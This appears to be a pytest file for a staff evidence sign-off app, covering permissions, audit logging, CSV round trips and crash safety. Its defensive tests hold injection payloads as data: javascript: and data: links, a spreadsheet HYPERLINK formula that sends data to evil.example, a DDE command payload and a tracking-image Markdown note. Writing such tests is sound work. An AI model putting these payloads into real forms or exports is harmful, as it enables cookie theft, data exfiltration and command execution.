"""Evidence in the product: staff submit it, their line manager signs it off, readiness moves at once.

The whole loop through the pages (AppTest, three signed-in users), who may do what, hostile values, one
evidence history with files (conflicts, the export's round trip), concurrent decisions and a killed writer.
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import duckdb
import pytest
from streamlit.testing.v1 import AppTest
from test_pages import APP, AUTH, assert_clean, persona

from loaders import audit
from loaders import evidence_events as events
from loaders.cli import main as cli
from loaders.evidence_events import EvidenceRefused
from loaders.load import load_files
from warehouse import queries
from warehouse.queries import Viewer

ROOT = Path(__file__).resolve().parent.parent
TODAY = dt.date.today()
RECENTLY = TODAY - dt.timedelta(days=7)


@pytest.fixture
def db(demo_db, tmp_path, monkeypatch) -> Path:
    """A private copy of the demo (writes must not touch the shared one), as the app's database."""
    path = tmp_path / "loop.duckdb"
    shutil.copy(demo_db, path)
    monkeypatch.setenv("PROGRESSION_DB", str(path))
    return path


def read(db: Path, sql: str, parameters: list | None = None) -> list[tuple]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(sql, parameters or []).fetchall()
    finally:
        con.close()


def viewer(db: Path, email: str) -> Viewer:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return queries.viewer_for_email(con, email)
    finally:
        con.close()


def cast(db: Path) -> dict:
    """A staff member with no reports, their line manager, their manager's manager and a manager outside
    the tree, with two unmet evidence-based criteria of the staff member's target level."""
    (staff_id, email, manager_id, manager_email, top_id, top_email), = read(db, """
        select staff.staff_id, person.email, manager.staff_id, manager.email, top.staff_id, top.email
        from staff_in_post_on(current_date) as staff
        join stg_staff as person on person.staff_id = staff.staff_id
        join stg_staff as manager on manager.staff_id = staff.line_manager_id
        join stg_staff as top on top.staff_id = manager.line_manager_id
        where staff.staff_id not in (select line_manager_id from stg_staff where line_manager_id is not null)
          and staff.target_level is not null and staff.level_start_date < current_date - 30
          and (select count(*) from gaps_on(current_date) as gaps join stg_criteria as criteria
               on criteria.criterion_id = gaps.requirement_id
               where gaps.staff_id = staff.staff_id and not criteria.is_time_based and gaps.reason <> 'awaiting_signoff') >= 2
        order by staff.staff_id limit 1""")
    criteria = [row[0] for row in read(db, """
        select gaps.requirement_id from gaps_on(current_date) as gaps
        join stg_criteria as criteria on criteria.criterion_id = gaps.requirement_id
        where gaps.staff_id = ? and not criteria.is_time_based and gaps.reason <> 'awaiting_signoff'
        order by gaps.requirement_id limit 2""", [staff_id])]
    line = dict(read(db, "select staff_id, line_manager_id from stg_staff"))
    above, person = set(), staff_id
    while line.get(person):
        person = line[person]
        above.add(person)
    (outsider_id, outsider_email), = read(db, f"""
        select staff_id, email from stg_staff
        where staff_id in (select staff_id from staff_in_post_on(current_date))
          and staff_id in (select line_manager_id from stg_staff)
          and staff_id not in (select staff_id from visible_staff('manager', ?))
          and staff_id not in ({', '.join('?' * len(above))})
        order by staff_id limit 1""", [top_id, *above])
    return {"staff": staff_id, "email": email, "manager": manager_id, "manager_email": manager_email,
            "top": top_id, "top_email": top_email, "outsider": outsider_id, "outsider_email": outsider_email,
            "criteria": criteria}


def readiness(db: Path, staff_id: str) -> tuple:
    return read(db, "select status, requirements_met from readiness_on(current_date) where staff_id = ?",
                [staff_id])[0]


def signed_in(email: str, page: str, db: Path, params: dict | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    for name, value in (params or {}).items():
        at.query_params[name] = value
    at.secrets["auth"] = AUTH
    at.user = {"is_logged_in": True, "email": email}
    at.run()
    if page != "pages/overview.py":
        at.switch_page(page)
        at.run()
    assert_clean(at)
    return at


def texts(at: AppTest) -> str:
    return "\n".join(element.value for kind in ("markdown", "caption", "success", "info", "warning", "error",
                                                "subheader", "header", "title")
                     for element in getattr(at, kind) if isinstance(element.value, str))


def errors(at: AppTest) -> str:
    """The page's error messages as a reader sees them (Markdown escapes and word joiners removed)."""
    return "\n".join(error.value for error in at.error).replace("\\", "").replace("\u2060", "")


def submit_through_page(at: AppTest, criterion_id: str, reference: str, note: str, day: dt.date = RECENTLY,
                        confirm: bool = True) -> AppTest:
    at.selectbox(key="submit-evidence-criterion").set_value(criterion_id)
    at.date_input(key="submit-evidence-date").set_value(day)
    at.text_input(key="submit-evidence-ref").set_value(reference)
    at.text_area(key="submit-evidence-note").set_value(note)
    at.checkbox(key="submit-evidence-gdpr").set_value(confirm)
    [button] = [button for button in at.button if button.label == "Submit for sign-off"]
    button.click().run()
    return at


def decide_through_page(at: AppTest, staff_id: str, criterion_id: str, day: dt.date, decision: str,
                        note: str) -> AppTest:
    key = f"decide-{staff_id}-{criterion_id}-{day:%Y%m%d}"
    at.radio(key=f"{key}-decision").set_value(decision)
    at.text_input(key=f"{key}-note").set_value(note)
    [button] = [button for button in at.button if button.label == "Record decision"
                and button.form_id == key]
    button.click().run()
    return at


# ---------------------------------------------------------------- the whole loop through the pages


def test_the_whole_loop_through_the_pages(db):
    people = cast(db)
    first, second = people["criteria"]
    before = readiness(db, people["staff"])
    blockers = """select coalesce(sum(people_blocked), 0) from blockers_on(current_date)
                  where requirement_id = ? and team = (select team from stg_staff where staff_id = ?)"""
    blocked_before = read(db, blockers, [first, people["staff"]])[0][0]

    # 1. The staff member submits two pieces of evidence on their own Person page.
    at = signed_in(people["email"], "pages/person.py", db)
    assert events.GDPR_REMINDER in texts(at)
    submit_through_page(at, first, "https://council.sharepoint.example/sites/me/evidence-1", "Led the team huddle")
    assert_clean(at)
    assert "awaiting your line manager" in texts(at)
    submit_through_page(at, second, "Work area/Evidence/second.docx", "Coached a new starter")
    assert_clean(at)
    evidence_table = [frame.value for frame in at.dataframe if "Criterion" in frame.value.columns][0]
    assert set(evidence_table.loc[evidence_table["Criterion"].isin([first, second]), "Status"]) == {"Awaiting sign-off"}

    # 2. The line manager sees both in their queue on the Team page, oldest first, and decides.
    at = signed_in(people["manager_email"], "pages/team.py", db)
    page = texts(at)
    assert "Evidence to sign off" in page and "Led the team huddle" in page and "Coached a new starter" in page
    decide_through_page(at, people["staff"], first, RECENTLY, "approved", "Clear and relevant")
    assert_clean(at)
    assert f"Approved {first}" in texts(at)
    # A rejection without a reason is refused, with a message naming it; with a reason it lands.
    decide_through_page(at, people["staff"], second, RECENTLY, "rejected", "")
    assert "reason" in "\n".join(error.value for error in at.error)
    at = signed_in(people["manager_email"], "pages/team.py", db)
    decide_through_page(at, people["staff"], second, RECENTLY, "rejected", "Names a customer: please redact it")
    assert_clean(at)
    assert f"Rejected {second}" in texts(at)
    # Both have left the queue.
    assert not [radio for radio in at.radio
                if radio.key.startswith((f"decide-{people['staff']}-{first}-", f"decide-{people['staff']}-{second}-"))]

    # 3. The staff member sees both decisions, with the assessor and the date.
    at = signed_in(people["email"], "pages/person.py", db)
    evidence_table = [frame.value for frame in at.dataframe if "Criterion" in frame.value.columns][0]
    decided = evidence_table[evidence_table["Criterion"].isin([first, second])].set_index("Criterion")
    assert decided.loc[first, "Status"] == "Approved" and decided.loc[second, "Status"] == "Rejected"
    manager_name = read(db, "select name from staff where staff_id = ?", [people["manager"]])[0][0]
    assert set(decided["Assessor"]) == {manager_name}
    assert set(decided["Decided on"].map(lambda value: value.date())) == {TODAY}
    assert "redact" in decided.loc[second, "Note"]

    # Readiness moved on the spot: one more requirement met, through readiness_on.
    after = readiness(db, people["staff"])
    assert after[1] == before[1] + 1
    reasons = dict(read(db, "select requirement_id, reason from gaps_on(current_date) where staff_id = ?",
                        [people["staff"]]))
    assert first not in reasons and reasons[second] == "rejected"
    # ... and so did the Blockers page's figure, and the person's next actions.
    assert read(db, blockers, [first, people["staff"]])[0][0] == blocked_before - 1
    assert read(db, "select reason from next_actions_on(current_date) where staff_id = ? and requirement_id = ?",
                [people["staff"], second]) == [("rejected",)]

    # 4. Every submission and decision is in the tamper-evident log, with who, what and which page.
    log = audit.view_log(db)
    written = log[log["action"].str.endswith("_evidence")]
    assert sorted(written["action"]) == ["approve_evidence", "reject_evidence", "submit_evidence", "submit_evidence"]
    assert set(written.loc[written["action"] == "submit_evidence", "viewer_email"]) == {people["email"]}
    assert set(written.loc[written["action"] != "submit_evidence", "page"]) == {"team"}
    assert audit.verify(db).is_intact


def test_the_grand_manager_and_an_outsider(db):
    people = cast(db)
    staff = viewer(db, people["email"])
    events.submit(staff, people["staff"], people["criteria"][0], RECENTLY, "ref/1", "note", gdpr_confirmed=True,
                  page="person")
    # Anyone above the line manager in the tree has it in their queue; a manager outside the tree does not.
    con = duckdb.connect(str(db), read_only=True)
    queues = {who: queries.signoff_queue(con, viewer(db, people[f"{who}_email"]), TODAY)
              for who in ("manager", "top", "outsider")}
    con.close()
    for who, expected in (("manager", True), ("top", True), ("outsider", False)):
        mine = queues[who][(queues[who]["staff_id"] == people["staff"])
                           & (queues[who]["criterion_id"] == people["criteria"][0])]
        assert len(mine) == expected, who
    at = signed_in(people["top_email"], "pages/team.py", db)
    waiting = len(queues["top"])
    assert f"{waiting:,} {'item' if waiting == 1 else 'items'} waiting for you, oldest first" in texts(at)
    # Past the first 20, a search finds anyone's evidence in the queue.
    wanted = f"decide-{people['staff']}-{people['criteria'][0]}-{RECENTLY:%Y%m%d}-decision"
    if len(queues["top"]) > 20:
        at.text_input(key="signoff-search").set_value(people["staff"]).run()
        assert_clean(at)
    assert [radio for radio in at.radio if radio.key == wanted]


def test_no_change_lands_without_its_row_in_the_tamper_evident_log(db, monkeypatch):
    people = cast(db)
    staff, manager = viewer(db, people["email"]), viewer(db, people["manager_email"])
    criterion = people["criteria"][0]
    events_before = read(db, "select count(*) from evidence_events")[0][0]
    # The log cannot be written: the submission is not made either.
    real_record = audit.record

    def broken_log(*args, **kwargs):
        raise OSError("the audit file is on a full disk")

    monkeypatch.setattr(audit, "record", broken_log)
    with pytest.raises(OSError, match="full disk"):
        events.submit(staff, people["staff"], criterion, RECENTLY, "ref", "note", gdpr_confirmed=True, page="person")
    assert read(db, "select count(*) from evidence_events")[0][0] == events_before
    monkeypatch.setattr(audit, "record", real_record)
    # Written normally, the log names the event evidence_events holds.
    event_id = events.submit(staff, people["staff"], criterion, RECENTLY, "ref", "note", gdpr_confirmed=True,
                             page="person")
    assert read(db, "select count(*) from evidence_events where event_id = ?", [event_id]) == [(1,)]
    log = audit.view_log(db)
    assert list(log.loc[log["action"] == "submit_evidence", "subject"]) == [
        f"{criterion} {RECENTLY.isoformat()} event {event_id}"]
    # The swap fails after the log is written: the log holds an attempt whose event the database does not.
    real_replace = os.replace

    def failing_swap(source, target):
        if str(target) == str(db):
            raise OSError("rename failed")
        return real_replace(source, target)

    monkeypatch.setattr(os, "replace", failing_swap)
    with pytest.raises(OSError, match="rename failed"):
        events.decide(manager, people["staff"], criterion, RECENTLY, "approved", "", page="team")
    monkeypatch.setattr(os, "replace", real_replace)
    log = audit.view_log(db)
    attempted = log.loc[log["action"] == "approve_evidence", "subject"].tolist()
    assert len(attempted) == 1
    attempted_event = attempted[0].rsplit(" ", 1)[1]
    assert read(db, "select count(*) from evidence_events where event_id = ?", [attempted_event]) == [(0,)]
    assert read(db, "select status from evidence_events where event_id = ?", [event_id]) == [("submitted",)]
    assert audit.verify(db).is_intact


def test_the_page_says_so_when_the_write_cannot_be_made(db, monkeypatch):
    people = cast(db)
    events_before = read(db, "select count(*) from evidence_events")[0][0]
    at = signed_in(people["email"], "pages/person.py", db)

    def broken_log(*args, **kwargs):
        raise OSError("No space left on device")

    monkeypatch.setattr(audit, "record", broken_log)
    submit_through_page(at, people["criteria"][0], "ref", "note")
    assert not at.exception
    assert "Not saved: the database or its log could not be written" in errors(at)
    assert "No space left on device" in errors(at) and "Nothing was changed" in errors(at)
    assert read(db, "select count(*) from evidence_events")[0][0] == events_before


def test_every_awaiting_sign_off_figure_is_the_queue_replayed_on_its_date(db):
    people = cast(db)
    # Submitted today, about work done a week ago: on any date before today it was not yet waiting.
    events.submit(viewer(db, people["email"]), people["staff"], people["criteria"][0], RECENTLY, "ref", "note",
                  gdpr_confirmed=True, page="person")
    admin = Viewer("local", "admin")
    con = duckdb.connect(str(db), read_only=True)
    try:
        counts = {}
        for day in (RECENTLY, TODAY):
            filters = queries.Filters(as_of=day)
            queue = queries.signoff_queue(con, admin, day)
            counts[day] = {
                "the queue": len(queue),
                "the Overview's figure": queries.overview_figures(con, admin, filters)["headline"][
                    "evidence_awaiting_signoff"],
                "the Team table's column": int(queries.team_members(con, admin, filters)[
                    "evidence_awaiting_signoff"].sum()),
                "the People list": int(queries.people_awaiting_signoff(con, admin, filters)[
                    "evidence_awaiting_signoff"].sum()),
                "the list of items": len(queries.awaiting_signoff(con, admin, filters)),
            }
            mine = queue[(queue["staff_id"] == people["staff"]) & (queue["criterion_id"] == people["criteria"][0])]
            assert len(mine) == (day == TODAY), day
    finally:
        con.close()
    for day, figures in counts.items():
        assert len(set(figures.values())) == 1, (day, figures)
    assert counts[TODAY]["the queue"] >= counts[RECENTLY]["the queue"] + 1


# ---------------------------------------------------------------- who may do what


def test_nobody_signs_off_their_own_evidence(db):
    people = cast(db)
    staff = viewer(db, people["email"])
    events.submit(staff, people["staff"], people["criteria"][0], RECENTLY, "ref", "note", gdpr_confirmed=True,
                  page="person")
    with pytest.raises(EvidenceRefused, match="nobody signs off their own evidence"):
        events.decide(staff, people["staff"], people["criteria"][0], RECENTLY, "approved", "", page="team")
    # Not even a manager or an administrator deciding on evidence of their own.
    manager = viewer(db, people["manager_email"])
    (criterion,), = read(db, "select min(criterion_id) from submittable_criteria(current_date) where staff_id = ?",
                         [people["manager"]])
    events.submit(manager, people["manager"], criterion, RECENTLY, "ref", "note", gdpr_confirmed=True, page="person")
    with pytest.raises(EvidenceRefused, match="own evidence"):
        events.decide(manager, people["manager"], criterion, RECENTLY, "approved", "", page="team")


def test_a_manager_outside_the_tree_is_refused(db):
    people = cast(db)
    events.submit(viewer(db, people["email"]), people["staff"], people["criteria"][0], RECENTLY, "ref", "note",
                  gdpr_confirmed=True, page="person")
    with pytest.raises(EvidenceRefused, match="not in your line-management tree"):
        events.decide(viewer(db, people["outsider_email"]), people["staff"], people["criteria"][0], RECENTLY,
                      "approved", "", page="team")
    assert readiness(db, people["staff"]) == readiness(db, people["staff"])
    assert read(db, "select count(*) from evidence_events where status <> 'submitted'") == [(0,)]


def test_staff_submit_only_for_themselves(db):
    people = cast(db)
    with pytest.raises(EvidenceRefused, match="only for yourself"):
        events.submit(viewer(db, people["manager_email"]), people["staff"], people["criteria"][0], RECENTLY, "ref",
                      "note", gdpr_confirmed=True, page="person")


def test_the_page_is_never_trusted_for_the_role(db):
    # A viewer claiming to be an administrator is re-resolved from their email inside the write.
    people = cast(db)
    claimed = Viewer(people["outsider_email"], "admin", people["outsider"])
    events.submit(viewer(db, people["email"]), people["staff"], people["criteria"][0], RECENTLY, "ref", "note",
                  gdpr_confirmed=True, page="person")
    with pytest.raises(EvidenceRefused, match="not in your line-management tree"):
        events.decide(claimed, people["staff"], people["criteria"][0], RECENTLY, "approved", "", page="team")
    with pytest.raises(EvidenceRefused, match="nobody is signed in"):
        events.decide(Viewer("local", "admin"), people["staff"], people["criteria"][0], RECENTLY, "approved", "",
                      page="team")
    with pytest.raises(EvidenceRefused, match="not set up"):
        events.decide(Viewer("stranger@example.org", "admin"), people["staff"], people["criteria"][0], RECENTLY,
                      "approved", "", page="team")


def test_the_rights_in_sql(db):
    people = cast(db)
    rights = {row[0]: row[1:] for row in read(db, "select * from evidence_rights('manager', ?)", [people["manager"]])}
    assert rights[people["manager"]] == (True, False)
    assert rights[people["staff"]] == (False, True)
    assert people["outsider"] not in rights
    assert read(db, "select count(*) from evidence_rights('staff', ?) where can_decide", [people["staff"]]) == [(0,)]
    assert read(db, "select count(*) from evidence_rights(null, null)") == [(0,)]


def test_view_as_cannot_submit_or_decide(db):
    # An administrator signed in on the demo "views as" a staff member, then a manager: no write is offered.
    access = db.parent / "access.csv"
    access.write_text("email,role\nhr.admin@example.org,admin\n")
    load_files("access", [access], db)
    at = signed_in("hr.admin@example.org", "pages/person.py", db)
    sql = lambda text, parameters=None: read(db, text, parameters)  # noqa: E731
    at.sidebar.selectbox(key="view_as").set_value(persona(at, sql, "Staff")).run()
    assert_clean(at)
    # The persona's own page, where they would submit: the form explains, and offers no button.
    assert "View as" in texts(at)
    assert not [button for button in at.button if button.label in ("Submit for sign-off", "Record decision")]
    at.sidebar.selectbox(key="view_as").set_value(persona(at, sql, "Manager")).run()
    at.switch_page("pages/team.py").run()
    assert_clean(at)
    assert "View as" in texts(at) and not [button for button in at.button if button.label == "Record decision"]


def test_the_demo_without_sign_in_cannot_write(db):
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    at.switch_page("pages/team.py")
    at.run()
    assert_clean(at)
    assert not [button for button in at.button if button.label == "Record decision"]
    assert "Nobody is signed in" in texts(at)


# ---------------------------------------------------------------- hostile values


@pytest.mark.parametrize(("field", "value", "message"), [
    ("note", "x" * 10_000, "10,000 characters long; keep it to 2,000"),
    ("note", "", "write a short note"),
    ("note", "bad\x00byte", "control characters"),
    ("evidence_ref", "javascript:alert(document.cookie)", "javascript: link is not allowed"),
    ("evidence_ref", "  JaVaScRiPt:alert(1)", "javascript: link is not allowed"),
    ("evidence_ref", "data:text/html;base64,PHNjcmlwdD4=", "data: link is not allowed"),
    ("evidence_ref", "vbscript:msgbox", "vbscript: link is not allowed"),
    ("evidence_ref", "", "say where the evidence is saved"),
    ("evidence_ref", "https://x.example/\nsecond line", "line breaks"),
    ("evidence_ref", "r" * 501, "keep it to 500"),
    ("evidence_date", TODAY + dt.timedelta(days=1), "is in the future"),
    ("evidence_date", dt.date(1990, 1, 1), "before you joined"),
    ("evidence_date", "not a date", "is not a date"),
    ("criterion_id", "OTHER-ROLE", "another role's criterion"),
    ("criterion_id", "NOPE.X.1", "not a criterion of any loaded framework"),
    ("gdpr", False, "confirm the GDPR reminder"),
])
def test_every_hostile_value_is_refused_with_a_clear_message(db, field, value, message):
    people = cast(db)
    submission = {"criterion_id": people["criteria"][0], "evidence_date": RECENTLY,
                  "evidence_ref": "Work area/evidence", "note": "A note", "gdpr_confirmed": True}
    if field == "gdpr":
        submission["gdpr_confirmed"] = value
    elif value == "OTHER-ROLE":
        # A criterion of a role the person neither holds nor can aim for.
        (other,), = read(db, """select min(criterion_id) from stg_criteria where not is_time_based
                               and criterion_id not in (select criterion_id from submittable_criteria(current_date)
                                                        where staff_id = ?)""", [people["staff"]])
        submission["criterion_id"] = other
    else:
        submission[field] = value
    with pytest.raises(EvidenceRefused, match=message) as refused:
        events.submit(viewer(db, people["email"]), people["staff"], page="person", **submission)
    assert refused.value.field == field
    assert read(db, "select count(*) from evidence_events") == [(0,)]


def test_a_decision_note_is_capped_and_a_rejection_needs_a_reason(db):
    people = cast(db)
    events.submit(viewer(db, people["email"]), people["staff"], people["criteria"][0], RECENTLY, "ref", "note",
                  gdpr_confirmed=True, page="person")
    manager = viewer(db, people["manager_email"])
    with pytest.raises(EvidenceRefused, match="reason: give a reason"):
        events.decide(manager, people["staff"], people["criteria"][0], RECENTLY, "rejected", "  ", page="team")
    with pytest.raises(EvidenceRefused, match="keep it to 2,000"):
        events.decide(manager, people["staff"], people["criteria"][0], RECENTLY, "approved", "y" * 10_000, page="team")
    with pytest.raises(EvidenceRefused, match="choose approved or rejected"):
        events.decide(manager, people["staff"], people["criteria"][0], RECENTLY, "maybe", "", page="team")


def test_formula_and_markdown_notes_are_stored_as_text_shown_as_text_and_exported_inert(db, tmp_path):
    people = cast(db)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    markdown = "![t](https://evil.example/track.png) **bold** <script>x</script>"
    staff = viewer(db, people["email"])
    events.submit(staff, people["staff"], people["criteria"][0], RECENTLY, "@SUM(1+1)", formula,
                  gdpr_confirmed=True, page="person")
    events.submit(staff, people["staff"], people["criteria"][1], RECENTLY, "ref", markdown, gdpr_confirmed=True,
                  page="person")
    assert {row[0] for row in read(db, "select note from evidence_events")} == {formula, markdown}
    # The manager's queue shows them as text: Markdown escaped, no image fetched.
    at = signed_in(people["manager_email"], "pages/team.py", db)
    shown = [element.value for element in at.markdown if "Note:" in element.value]
    assert any("\\!\\[t\\]" in value for value in shown) and not any("![t](" in value for value in shown)
    # The export neutralises the formula; loading it back restores the exact text.
    export = tmp_path / "evidence.csv"
    events.export(export, db)
    rows = {(row["staff_id"], row["criterion_id"]): row for row in csv.DictReader(export.open())}
    assert rows[(people["staff"], people["criteria"][0])]["note"] == "'" + formula
    assert rows[(people["staff"], people["criteria"][0])]["evidence_ref"] == "'@SUM(1+1)"


# ---------------------------------------------------------------- one evidence history


def test_a_later_load_that_would_reverse_a_decision_is_a_conflict_not_applied(db, tmp_path, capsys):
    people = cast(db)
    criterion = people["criteria"][0]
    events.submit(viewer(db, people["email"]), people["staff"], criterion, RECENTLY, "ref", "note",
                  gdpr_confirmed=True, page="person")
    events.decide(viewer(db, people["manager_email"]), people["staff"], criterion, RECENTLY, "approved", "ok",
                  page="team")
    met = readiness(db, people["staff"])
    stale = tmp_path / "evidence.csv"
    stale.write_text("staff_id,criterion_id,evidence_date,status,assessor,note,evidence_ref\n"
                     f"{people['staff']},{criterion},{RECENTLY},rejected,HR Officer,old export,\n")
    assert cli(["load", "evidence", str(stale), "--db", str(db)]) == 0
    output = capsys.readouterr().out
    assert "CONFLICT: 1 row(s) would reverse a decision made in the product" in output
    assert f"{people['staff']} {criterion}" in output
    # The decision stands; the conflict is stored for the Data page.
    assert read(db, """select status, source from stg_evidence where staff_id = ? and criterion_id = ?
                       and evidence_date = ?""", [people["staff"], criterion, RECENTLY]) == [("approved", "product")]
    assert readiness(db, people["staff"]) == met
    con = duckdb.connect(str(db), read_only=True)
    conflicts = queries.evidence_conflicts(con, Viewer("x", "admin"))
    assert queries.evidence_conflicts(con, Viewer("y", "manager", people["manager"])).empty
    con.close()
    assert conflicts[["staff_id", "product_status", "file_status"]].values.tolist() == [
        [people["staff"], "approved", "rejected"]]
    at = signed_in_admin(db)
    assert "Evidence conflicts" in texts(at) + "".join(header.value for header in at.subheader)


def signed_in_admin(db: Path) -> AppTest:
    access = db.parent / "access.csv"
    access.write_text("email,role\nhr.admin@example.org,admin\n")
    load_files("access", [access], db)
    return signed_in("hr.admin@example.org", "pages/data.py", db)


def test_a_file_decision_on_a_product_submission_counts_and_a_stale_submitted_row_does_not_undo_a_decision(db, tmp_path):
    people = cast(db)
    first, second = people["criteria"]
    staff = viewer(db, people["email"])
    for criterion in (first, second):
        events.submit(staff, people["staff"], criterion, RECENTLY, "ref", "note", gdpr_confirmed=True, page="person")
    events.decide(viewer(db, people["manager_email"]), people["staff"], second, RECENTLY, "rejected", "why",
                  page="team")
    update = tmp_path / "evidence.csv"
    update.write_text("staff_id,criterion_id,evidence_date,status,assessor,note,evidence_ref\n"
                      f"{people['staff']},{first},{RECENTLY},approved,HR Officer,signed off on paper,\n"
                      f"{people['staff']},{second},{RECENTLY},submitted,,older export,\n")
    load_files("evidence", [update], db)
    statuses = dict(read(db, "select criterion_id, status from stg_evidence where staff_id = ? and evidence_date = ?",
                         [people["staff"], RECENTLY]))
    assert statuses == {first: "approved", second: "rejected"}
    assert read(db, "select count(*) from evidence_conflicts") == [(0,)]


def test_export_then_load_changes_nothing(db, tmp_path, capsys):
    people = cast(db)
    first, second = people["criteria"]
    staff, manager = viewer(db, people["email"]), viewer(db, people["manager_email"])
    events.submit(staff, people["staff"], first, RECENTLY, "=cmd|' /C calc'!A0", "-2+3 note\nsecond line",
                  gdpr_confirmed=True, page="person")
    events.submit(staff, people["staff"], second, RECENTLY, "ref", "'=quoted", gdpr_confirmed=True, page="person")
    events.decide(manager, people["staff"], first, RECENTLY, "approved", "@fine", page="team")
    history = "select * exclude (file_status) from stg_evidence order by all"
    before = read(db, history)
    export = tmp_path / "history.csv"
    assert cli(["export", "evidence", str(export), "--db", str(db)]) == 0
    assert f"{len(before)} row(s) of evidence written" in capsys.readouterr().out
    with export.open() as handle:
        assert next(csv.reader(handle)) == events.FILE_COLUMNS
    assert cli(["load", "evidence", str(export), "--db", str(db)]) == 0
    assert "CONFLICT" not in capsys.readouterr().out
    assert read(db, history) == before
    # And a second export is byte for byte the first.
    again = tmp_path / "again.csv"
    events.export(again, db)
    assert again.read_bytes() == export.read_bytes()


# ---------------------------------------------------------------- safe writes


def test_two_managers_deciding_at_the_same_moment_both_land(db):
    people = cast(db)
    first, second = people["criteria"]
    staff = viewer(db, people["email"])
    for criterion in (first, second):
        events.submit(staff, people["staff"], criterion, RECENTLY, "ref", "note", gdpr_confirmed=True, page="person")
    deciders = [(viewer(db, people["manager_email"]), first), (viewer(db, people["top_email"]), second)]
    barrier, errors = threading.Barrier(2), []

    def decide(who, criterion):
        barrier.wait()
        try:
            events.decide(who, people["staff"], criterion, RECENTLY, "approved", "", page="team")
        except Exception as error:  # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=decide, args=pair) for pair in deciders]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert sorted(read(db, "select criterion_id, status from evidence_events where status <> 'submitted'")) == [
        (first, "approved"), (second, "approved")]


def test_a_second_decision_on_the_same_piece_is_refused(db):
    people = cast(db)
    events.submit(viewer(db, people["email"]), people["staff"], people["criteria"][0], RECENTLY, "ref", "note",
                  gdpr_confirmed=True, page="person")
    events.decide(viewer(db, people["manager_email"]), people["staff"], people["criteria"][0], RECENTLY,
                  "approved", "", page="team")
    with pytest.raises(EvidenceRefused, match="already approved by"):
        events.decide(viewer(db, people["top_email"]), people["staff"], people["criteria"][0], RECENTLY,
                      "rejected", "no", page="team")


WRITER = textwrap.dedent("""
    import datetime as dt, sys
    sys.path.insert(0, {root!r})
    from loaders import evidence_events as events, database
    from warehouse.scope import Viewer
    db, staff_id, manager_email, criteria = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4].split(",")
    day = dt.date.fromisoformat(sys.argv[5])
    manager = Viewer(manager_email, "manager")
    for index, criterion in enumerate(criteria):
        if index == len(criteria) - 1:
            # The last decision is killed mid-write: after its copy is made, before the swap.
            original = database._fsync
            def stall(path):
                if str(path).endswith(".tmp"):
                    print("STALLED", flush=True)
                    import time; time.sleep(60)
                original(path)
            database._fsync = stall
        events.decide(manager, staff_id, criterion, day, "approved", "ok", page="team", db=db)
        print("ACK", criterion, flush=True)
""")


def test_a_sigkill_during_a_decision_loses_nothing_acknowledged(db):
    people = cast(db)
    staff = viewer(db, people["email"])
    criteria = [row[0] for row in read(db, """select criterion_id from submittable_criteria(current_date)
                                              where staff_id = ? and criterion_id not in (
                                                  select criterion_id from stg_evidence where staff_id = ?
                                                  and evidence_date = ?)
                                              order by criterion_id limit 3""",
                                       [people["staff"], people["staff"], RECENTLY])]
    for criterion in criteria:
        events.submit(staff, people["staff"], criterion, RECENTLY, "ref", "note", gdpr_confirmed=True, page="person")
    process = subprocess.Popen(
        [sys.executable, "-c", WRITER.format(root=str(ROOT)), str(db), people["staff"], people["manager_email"],
         ",".join(criteria), RECENTLY.isoformat()],
        stdout=subprocess.PIPE, text=True, env={**os.environ, "PROGRESSION_DB": str(db)})
    acknowledged = []
    for line in process.stdout:
        if line.startswith("ACK"):
            acknowledged.append(line.split()[1])
        if line.startswith("STALLED"):
            process.send_signal(signal.SIGKILL)
            break
    process.wait(timeout=30)
    assert process.returncode == -signal.SIGKILL
    assert acknowledged == criteria[:-1]
    # The file opens, and holds every acknowledged decision and nothing of the killed one.
    decided = {row[0]: row[1] for row in read(db, """select criterion_id, status from stg_evidence
                                                     where staff_id = ? and evidence_date = ?""",
                                              [people["staff"], RECENTLY])}
    assert all(decided[criterion] == "approved" for criterion in acknowledged)
    assert decided[criteria[-1]] == "submitted"
    # The next write clears the killed writer's copy and lands.
    events.decide(viewer(db, people["manager_email"]), people["staff"], criteria[-1], RECENTLY, "approved", "",
                  page="team")
    assert not list(db.parent.glob(db.name + ".*.tmp"))


def test_a_load_during_decisions_loses_none_and_shows_no_half(db, tmp_path):
    people = cast(db)
    staff = viewer(db, people["email"])
    first, second = people["criteria"]
    for criterion in (first, second):
        events.submit(staff, people["staff"], criterion, RECENTLY, "ref", "note", gdpr_confirmed=True, page="person")
    other = tmp_path / "training.csv"
    other.write_text(f"staff_id,course,completed_on,expires_on\n{people['staff']},GDPR,{RECENTLY},\n")
    manager = viewer(db, people["manager_email"])
    threads = [threading.Thread(target=load_files, args=("training", [other], db)),
               threading.Thread(target=events.decide,
                                args=(manager, people["staff"], first, RECENTLY, "approved", ""),
                                kwargs={"page": "team"})]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert read(db, "select count(*) from evidence_events where status = 'approved'") == [(1,)]
    assert read(db, "select count(*) from training where staff_id = ? and completed_on = ?",
                [people["staff"], RECENTLY]) == [(1,)]


# ---------------------------------------------------------------- reminders without e-mail


def test_working_days_and_the_overdue_counts(db):
    # Friday to the next Monday is one working day; two full weeks are ten.
    assert read(db, "select working_days_between(date '2026-11-27', date '2026-11-30')") == [(1,)]
    assert read(db, "select working_days_between(date '2026-11-16', date '2026-11-30')") == [(10,)]
    assert read(db, "select working_days_between(date '2026-11-30', date '2026-11-30')") == [(0,)]
    people = cast(db)
    con = duckdb.connect(str(db), read_only=True)
    manager = queries.viewer_for_email(con, people["manager_email"])
    filters = queries.Filters(as_of=TODAY)
    figures = queries.overdue_signoffs(con, manager, filters)
    (expected,), = [row for row in con.execute("""
        select count(*) from evidence_waiting_on(current_date)
        where staff_id in (select staff_id from visible_staff('manager', ?))
          and working_days_between(submitted_on, current_date) > 10""", [people["manager"]]).fetchall()]
    waits = queries.oldest_waits_by_team(con, Viewer("x", "admin"), filters)
    con.close()
